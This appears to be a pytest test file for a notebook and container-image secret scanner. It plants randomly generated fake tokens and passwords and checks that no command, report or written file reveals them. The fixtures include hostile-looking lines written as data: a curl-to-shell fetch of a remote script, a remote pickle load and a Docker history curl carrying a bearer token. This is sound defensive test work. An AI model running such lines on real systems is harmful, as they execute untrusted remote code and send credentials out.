"""One walk over every way out: no planted secret, and no six characters of one, may be seen anywhere."""

import json
import os
import random
import string
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

import mlsec_nb
from mlsec_nb import reporters
from mlsec_nb.cli import main
from mlsec_nb.jupyter.view import html, rows, tree
from tests.sources.images import config_of, layer, written

ROOT = Path(__file__).parents[1]
DRAW = random.Random(20261125)
LETTERS = string.ascii_letters + string.digits


def drawn(length: int, alphabet: str = LETTERS) -> str:
    return "".join(DRAW.choice(alphabet) for _ in range(length))


# What is public by the format, and what may never be seen.
SECRETS = {
    "huggingface": ("hf_", drawn(34, string.ascii_letters)),
    "aws": ("AKIA", drawn(16, string.ascii_uppercase + "234567")),
    "openai": ("sk-proj-", drawn(48)),
    "wandb": ("", drawn(40, "0123456789abcdef")),
    "password": ("", "Tr0ub4dor" + drawn(7)),
    "url": ("", "Pa55" + drawn(12)),
    "bearer": ("", drawn(40)),
}


def value(name: str) -> str:
    return "".join(SECRETS[name])


SOURCE = f"""\
import os, pickle, urllib.request
from huggingface_hub import login
login(token="{value("huggingface")}")
db_password = "{value("password")}"
url = "postgresql://app:{value("url")}@db.example.org/prod"
!curl -H "Authorization: Bearer {value("bearer")}" http://host.example.org/run.sh | sh
model = pickle.load(urllib.request.urlopen("http://host.example.org/m.pkl?token={value("bearer")}"))
print("{value("openai")}")
"""
OUTPUT = f"WANDB_API_KEY={value('wandb')}\naws_access_key_id = {value('aws')}\n{value('openai')}\n"


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": OUTPUT.splitlines(keepends=True)},
        {
            "output_type": "error",
            "ename": "ValueError",
            "evalue": value("openai"),
            "traceback": [f"\x1b[31mValueError\x1b[0m: {OUTPUT}"],
        },
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": f"<td>token</td><td>{value('huggingface')}</td>"},
        },
    ]
    cell = {"cell_type": "code", "id": "a", "execution_count": 1, "metadata": {"token": value("openai")},
            "source": SOURCE, "outputs": outputs}  # fmt: skip
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
    (folder / "leak.ipynb").write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    (folder / "leak.py").write_text(SOURCE.replace("!curl", "# curl"), encoding="utf-8")
    (folder / "broken.ipynb").write_text(json.dumps(notebook)[:-40], encoding="utf-8")
    (folder / ".env").write_text(OUTPUT, encoding="utf-8")
    _image(folder, (folder / "leak.ipynb").read_bytes())
    return folder


def _image(folder: Path, notebook: bytes) -> None:
    """The same secrets in a layer that a later one deletes, in the environment, labels, commands and history."""
    tars = [layer({"app/leak.ipynb": notebook, "app/.env": OUTPUT.encode()}), layer({"app/.wh..wh..opq": b""})]
    lines = [
        f"RUN |1 HF_TOKEN={value('huggingface')} /bin/sh -c curl -H 'Authorization: Bearer {value('bearer')}' http://a",
        f"ENV WANDB_API_KEY={value('wandb')} DB_PASSWORD={value('password')}",
    ]
    inner = {
        "Env": [f"WANDB_API_KEY={value('wandb')}", f"DB_PASSWORD={value('password')}", *OUTPUT.splitlines()],
        "Labels": {"token": value("openai")}, "Healthcheck": {"Test": ["CMD", f"--password={value('password')}"]},
        "Entrypoint": ["serve", f"--db=postgresql://app:{value('url')}@db.example.org/prod"],
    }  # fmt: skip
    written(folder, "docker", tars, config_of(tars, [{"created_by": line} for line in lines], **inner))


def seen(text: str) -> Iterator[str]:
    """The names of secrets of which six characters in a row stand in a text."""
    for name, (_, body) in SECRETS.items():
        if any(body[i : i + 6] in text for i in range(len(body) - 5)):
            yield name


def clean(text: str) -> None:
    assert list(seen(text)) == [], text[:2000]


def cli(*words: str) -> Callable[[pytest.CaptureFixture[str]], str]:
    def run(capsys: pytest.CaptureFixture[str]) -> str:
        main(list(words))
        said = capsys.readouterr()
        return said.out + said.err

    return run


COMMANDS = {
    "scan": cli("scan", "."),
    "scan -v": cli("scan", ".", "-v"),
    "scan a broken file": cli("scan", "broken.ipynb"),
    "fix": cli("fix", "."),
    "fix --write": cli("fix", ".", "--write"),
    "baseline create": cli("baseline", "create", "."),
    "a mistake with a secret in it": cli("scan", ".", "--only", "secrets", "--skip", "code"),
    "explain": cli("rules", "-f", "json"),
    "container": cli("container", "image.tar", "-v"),
    "container --diff": cli("container", "image.tar", "--diff", "image.tar", "-v"),
}


def test_the_planted_secrets_are_found() -> None:
    report = mlsec_nb.scan("leak.ipynb")
    assert len([f for f in report.new if f.scanner == "secrets"]) >= len(SECRETS)


def test_the_planted_secrets_of_the_image_are_found() -> None:
    report = mlsec_nb.scan("image.tar")
    parts = {one.location.part for one in report.new if one.scanner == "secrets"}
    assert {"env", "labels", "command", "history"} <= parts


@pytest.mark.parametrize("name", COMMANDS)
def test_no_command_says_one(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    clean(COMMANDS[name](capsys))


@pytest.mark.parametrize("name", reporters.FORMATS)
def test_no_report_shows_one(name: str) -> None:
    clean(reporters.render(mlsec_nb.scan("."), name))


def test_no_view_and_no_table_shows_one() -> None:
    report = mlsec_nb.scan(".")
    clean(html(report) + json.dumps(tree(report)) + repr(list(rows(report))) + repr(report))


def test_no_file_that_is_written_holds_one(project: Path, tmp_path: Path) -> None:
    before = set(tmp_path.rglob("*"))
    main(["baseline", "create", "."])
    for suffix in ("json", "html", "sarif", "md", "csv", "xml"):
        main(["scan", ".", "-o", f"report.{suffix}"])
    written = [path for path in set(tmp_path.rglob("*")) - before if path.is_file()]
    assert len(written) == 7
    for path in written:
        clean(path.read_text(encoding="utf-8"))


def test_no_tool_that_we_run_through_says_one() -> None:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for command in (["-m", "nbqa", "mlsec_nb", "leak.ipynb"], ["-m", "mlsec_nb", "scan", ".", "-j", "2"]):
        done = subprocess.run([sys.executable, *command], env=env, capture_output=True, text=True, check=False)
        assert done.returncode == 1, done.stderr
        clean(done.stdout + done.stderr)


def test_no_history_tells_one(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org"]
    for words in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "x"]):
        subprocess.run([*git, *words], cwd=project, check=True)
    assert main(["history", "-v", "--only", "secrets,code"]) == 1
    said = capsys.readouterr()
    clean(said.out + said.err)
